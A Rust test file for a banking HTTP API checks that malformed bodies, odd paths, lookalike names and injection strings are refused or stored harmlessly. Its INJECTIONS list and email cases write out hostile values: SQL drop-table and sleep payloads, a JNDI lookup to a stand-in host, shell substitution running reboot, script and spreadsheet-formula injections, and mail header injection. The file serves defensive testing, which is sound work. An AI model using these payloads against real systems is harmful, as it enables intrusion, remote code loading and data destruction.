//! Bodies, addresses and texts that are made to break whoever reads them.

use reqwest::{Method, StatusCode};
use serde_json::json;
use simplebank_http::{BATCH_BYTES_MAX, BODY_BYTES_MAX};

use super::routes::Route;
use crate::support::{Answer, PASSWORD, World, send};

/// The longest answer to nonsense, in bytes: it names twenty fields at most.
const REFUSAL_BYTES_MAX: usize = 4096;

/// Bodies that no route takes, for a route whose first field is `field`.
fn nonsense(field: &str) -> Vec<(&'static str, Vec<u8>)> {
    let of = |value: &str| format!("{{\"{field}\":{value}}}").into_bytes();
    let member = |bytes: &[u8]| [b"{\"", field.as_bytes(), b"\":\"", bytes, b"\"}"].concat();
    let wide: Vec<_> = (0..4000).map(|number| format!("\"f{number}\":1")).collect();
    vec![
        ("NUL", of("\"\\u0000\"")),
        ("a raw NUL", member(b"\0")),
        ("NUL in a name", b"{\"\\u0000\":1}".to_vec()),
        ("another control character", of("\"\\u001b[2J\"")),
        ("a line break", of("\"a\\r\\nb\"")),
        ("a lone high surrogate", of("\"\\ud800\"")),
        ("a lone low surrogate", of("\"\\udfff\"")),
        ("surrogates the wrong way round", of("\"\\udc00\\ud800\"")),
        ("surrogates in UTF-8", member(b"\xed\xa0\x80")),
        ("half a character", member(b"\xe2\x82")),
        ("an overlong slash", member(b"\xc0\xaf")),
        ("bytes that are no UTF-8", member(b"\xff\xfe")),
        ("beyond Unicode", member(b"\xf4\x90\x80\x80")),
        ("UTF-16", b"\xff\xfe{\0}\0".to_vec()),
        ("a byte order mark", b"\xef\xbb\xbf{}".to_vec()),
        ("deep arrays", of(&format!("{}{}", "[".repeat(30_000), "]".repeat(30_000)))),
        ("deep objects", of(&format!("{}1{}", "{\"a\":".repeat(9_000), "}".repeat(9_000)))),
        ("an open end", of(&"[".repeat(60_000))),
        ("wide", format!("{{{}}}", wide.join(",")).into_bytes()),
        ("a field twice", format!("{{\"{field}\":\"a\",\"{field}\":\"a\"}}").into_bytes()),
        ("twice, once with escapes", {
            let escaped = format!("\\u{:04x}{}", field.as_bytes()[0], &field[1..]);
            format!("{{\"{field}\":\"a\",\"{escaped}\":\"a\"}}").into_bytes()
        }),
        ("two bodies", b"{}{}".to_vec()),
        ("trailing bytes", b"{} x".to_vec()),
        ("a trailing NUL", b"{}\0".to_vec()),
        ("a trailing comma", of("\"a\",")),
        ("a comment", b"{/* */}".to_vec()),
        ("single quotes", b"{'a':'b'}".to_vec()),
        ("null", b"null".to_vec()),
        ("an array", b"[]".to_vec()),
        ("a string", b"\"{}\"".to_vec()),
        ("a huge number", of("1e999999")),
        ("many digits", of(&"9".repeat(50_000))),
        ("no number", of("NaN")),
        ("true", of("true")),
        ("an object", of("{}")),
        ("white space", b" \n ".to_vec()),
    ]
}

fn check_refusal(answer: &Answer, status: u16, what: &str, route: &Route) {
    assert_eq!(answer.status, status, "{what}: {} {}: {answer:?}", route.method, route.path);
    assert_eq!(answer.header("content-type"), "application/problem+json", "{what}: {answer:?}");
    assert!(answer.text.len() <= REFUSAL_BYTES_MAX, "{what}: {} bytes", answer.text.len());
    for word in ["serde", "line ", "column", "panicked", "src/", "expected"] {
        assert!(!answer.text.contains(word), "{what}: {answer:?}");
    }
}

#[tokio::test]
async fn every_route_refuses_every_malformed_body() {
    let world = World::new().await;
    let banker = world.banker("banker").await;
    let before = world.state().await;
    for route in Route::all(&world).await {
        let Some(fields) = &route.fields else { continue };
        let field = fields.first().map_or("field", String::as_str);
        for (what, body) in nonsense(field) {
            let request = route.request(&banker).header("Content-Type", "application/json");
            check_refusal(&send(request.body(body)).await, 400, what, &route);
        }
    }
    assert_eq!(world.state().await, before);
}

#[tokio::test]
async fn every_route_refuses_long_compressed_and_foreign_bodies() {
    let world = World::new().await;
    let banker = world.banker("banker").await;
    let before = world.state().await;
    for route in Route::all(&world).await {
        if route.fields.is_none() {
            continue;
        }
        let ask = || route.request(&banker);
        let bytes_max = match route.path.ends_with("/batch") {
            true => BATCH_BYTES_MAX,
            false => BODY_BYTES_MAX,
        };
        let long = format!("{{}}{}", " ".repeat(bytes_max - 1));
        let request = ask().header("Content-Type", "application/json").body(long);
        check_refusal(&send(request).await, 413, "long", &route);
        for content_type in ["text/plain", "application/x-www-form-urlencoded", "text/json", "*/*"]
        {
            let request = ask().header("Content-Type", content_type).body("{}");
            check_refusal(&send(request).await, 415, content_type, &route);
        }
        // Nobody unpacks what may unpack to anything.
        for coding in ["gzip", "deflate", "br", "zstd", "compress", "gzip, gzip", "identity, br"] {
            let request = ask().header("Content-Type", "application/json");
            let request = request.header("Content-Encoding", coding).body("\x1f\u{b}");
            check_refusal(&send(request).await, 415, coding, &route);
        }
    }
    assert_eq!(world.state().await, before);
}

#[tokio::test]
async fn every_list_refuses_impossible_pages() {
    let world = World::new().await;
    let alice = world.user("alice").await;
    let account = alice.account("EUR").await;
    let mut lists = 0;
    for route in Route::all(&world).await {
        let has = |name: &str| route.parameters.iter().any(|parameter| parameter == name);
        if !has("limit") {
            continue;
        }
        lists += 1;
        let path = route.path_of(&account);
        let start =
            if has("account_id") { format!("account_id={account}&") } else { String::new() };
        for query in [
            "limit=0",
            "limit=-1",
            "limit=101",
            "limit=2147483648",
            "limit=9223372036854775808",
            "limit=18446744073709551616",
            "limit=99999999999999999999999999999999999999",
            "limit=1e1",
            "limit=0x10",
            "limit=1%00",
            "limit=%31%20",
            "limit=10;drop",
            "limit=10&limit=10",
            "limit[]=10",
            "offset=9223372036854775807",
            "page=9223372036854775807",
            "cursor=%00",
            "cursor=-1",
            "cursor=9223372036854775807",
            "cursor=//////////////////////8",
        ] {
            let answer = alice.get(&format!("{path}?{start}{query}")).await;
            check_refusal(&answer, 400, query, &route);
        }
    }
    assert!(lists >= 5, "{lists}");
}

/// What has meant something to an interpreter somewhere: SQL, shells, formats, templates, lookups, pages, spreadsheets.
const INJECTIONS: [&str; 16] = [
    "'; drop table simplebank.entries; --",
    "' or '1'='1",
    "\\'; select pg_sleep(9); --",
    "$$; rollback; $$",
    "$1 :name ?",
    "%s%n%x%d",
    "${jndi:ldap://x.example/a}",
    "{{7*7}} <%= 7*7 %> #{7*7}",
    "$(reboot) `reboot` | reboot",
    "<script>alert(1)</script>",
    "\"><img src=x onerror=alert(1)>",
    "=cmd|'/c calc'!A1",
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\u{ff1d}1+1",
];

#[tokio::test]
async fn a_text_stays_the_text_that_it_is() {
    let world = World::new().await;
    let (alice, bob) = (world.user("alice").await, world.user("bob").await);
    let banker = world.banker("banker").await;
    let (from, to) = (alice.account("EUR").await, bob.account("EUR").await);
    banker.deposit("start", &from, "1000").await.is(201);
    for (number, text) in INJECTIONS.iter().enumerate() {
        let mut body = crate::support::transfer_body(&from, &to, "1");
        body["description"] = json!(text);
        let receipt = alice.pay(&format!("i{number}"), "/v1/transfers", body).await.is(201);
        assert_eq!(receipt["transfer"]["description"], **text);
        let id = receipt["transfer"]["id"].as_str().unwrap();
        let seen = bob.get(&format!("/v1/transfers/{id}")).await;
        assert_eq!(seen.is(200)["description"], **text);
        assert_eq!(seen.header("x-content-type-options"), "nosniff");
    }
    let path = format!("/v1/accounts/{to}/statement?format=csv");
    let statement = bob.get(&path).await;
    let cells: Vec<&str> = statement.text.lines().flat_map(cells).collect();
    for text in INJECTIONS {
        let could_be_a_formula = text.starts_with(['=', '+', '-', '@', '\u{ff1d}']);
        let cell = if could_be_a_formula { format!("'{text}") } else { text.to_owned() };
        assert!(cells.contains(&&*cell.replace('"', "\"\"")), "{cell}: {cells:?}");
    }
    let is_number =
        |cell: &str| cell.trim_start_matches(['+', '-']).starts_with(|c: char| c.is_ascii_digit());
    for cell in cells {
        assert!(!cell.starts_with(['=', '@', '\u{ff1d}']), "{cell}");
        assert!(!cell.starts_with(['+', '-']) || is_number(cell), "{cell}");
    }
    world.state().await;
}

/// The cells of a row: none of these texts has a comma.
fn cells(row: &str) -> impl Iterator<Item = &str> {
    row.split(',')
        .map(|cell| cell.strip_prefix('"').and_then(|cell| cell.strip_suffix('"')).unwrap_or(cell))
}

#[tokio::test]
async fn nothing_that_is_looked_for_is_a_command() {
    let world = World::new().await;
    let alice = world.user("alice").await;
    let account = alice.account("EUR").await;
    let before = world.state().await;
    let encoded =
        |text: &str| -> String { text.bytes().map(|byte| format!("%{byte:02x}")).collect() };
    for text in INJECTIONS {
        let text = encoded(text);
        for path in [
            format!("/v1/accounts/{text}"),
            format!("/v1/transfers/{text}"),
            format!("/v1/transfers?account_id={text}"),
            format!("/v1/transfers?account_id={account}&cursor={text}"),
            format!("/v1/accounts/{account}/statement?from={text}"),
            format!("/v1/accounts/{account}/balance?at={text}"),
            format!("/v1/verify-email?id={text}&code={text}"),
            format!("/{text}"),
        ] {
            let answer = alice.get(&path).await;
            let is_refused = [400, 404, 422].contains(&answer.status.as_u16());
            assert!(is_refused, "{path}: {answer:?}");
            assert_eq!(answer.header("content-type"), "application/problem+json", "{answer:?}");
        }
        let found =
            alice.get(&format!("/v1/transfers?account_id={account}&reference={text}")).await;
        assert!([200, 400, 422].contains(&found.status.as_u16()), "{found:?}");
        assert!(!found.text.contains("transfer_id"), "{found:?}");
    }
    for username in INJECTIONS {
        let body = json!({"username": username, "password": PASSWORD});
        let answer = world.anyone().post("/v1/users/login", body).await;
        answer.is_problem(401, "wrong_credentials", &[]);
    }
    assert_eq!(world.state().await, before);
}

#[tokio::test]
async fn nobody_writes_into_the_head_of_a_mail_or_deceives_with_a_name() {
    let world = World::new().await;
    let before = world.state().await;
    let register = async |field: &str, value: &str| {
        let mut body = json!({
            "username": "mallory", "password": PASSWORD, "full_name": "M", "email": "m@example.org",
        });
        body[field] = json!(value);
        world.anyone().post("/v1/users", body).await
    };
    for email in [
        "m@example.org\r\nBcc: all@example.org",
        "m@example.org\nSubject: hello",
        "m@example.org\0",
        "m@example.org, all@example.org",
        "m@example.org;all@example.org",
        "m@example.org all@example.org",
        "<m@example.org>",
        "m@example.org>",
        "M <m@example.org>",
        "m@example.org%0aBcc:all@example.org",
        "\"m\r\n\"@example.org",
        "m@@example.org",
        "m@example.org\u{2028}Bcc: all@example.org",
        "@example.org",
        "m@",
    ] {
        let answer = register("email", email).await;
        assert!([400, 422].contains(&answer.status.as_u16()), "{email:?}: {answer:?}");
    }
    for (field, name) in [
        ("username", "m\u{430}llory"),
        ("username", "ma\u{200b}llory"),
        ("username", "Mallory"),
        ("username", "m\u{ff41}llory"),
        ("username", "mallory "),
        ("full_name", "M\r\nBcc: all@example.org"),
        ("full_name", "M\u{202e}ecilA"),
        ("full_name", "M\u{200b}"),
        ("full_name", "M\u{2066}x"),
        ("full_name", "\u{feff}M"),
    ] {
        let answer = register(field, name).await;
        assert!([400, 422].contains(&answer.status.as_u16()), "{name:?}: {answer:?}");
    }
    assert_eq!(world.state().await, before);
}

/// Other spellings of an address are other addresses, and none of them is a way around the token.
#[tokio::test]
async fn an_address_has_one_spelling() {
    let world = World::new().await;
    let alice = world.user("alice").await;
    for path in [
        "/v1/users/me/",
        "//v1/users/me",
        "/v1/users/%6de",
        "/v1/Users/me",
        "/v1/users/me;x",
        "/v1/users/me%00",
        "/v1/users/me%2f",
        "/v1/users/.%2fme",
        "/v1/x/..%2fusers/me",
        "/V1/users/me",
        "/v1/users/me.json",
        "/v1%2fusers/me",
    ] {
        let without = world.anyone().get(path).await;
        let with = send(alice.request(Method::GET, path)).await;
        for answer in [&without, &with] {
            let is_nothing =
                [StatusCode::NOT_FOUND, StatusCode::UNAUTHORIZED].contains(&answer.status);
            assert!(
                is_nothing || answer.status == 200 && path.contains("%6d"),
                "{path}: {answer:?}"
            );
        }
        assert_ne!(without.status, 200, "{path}");
    }
}
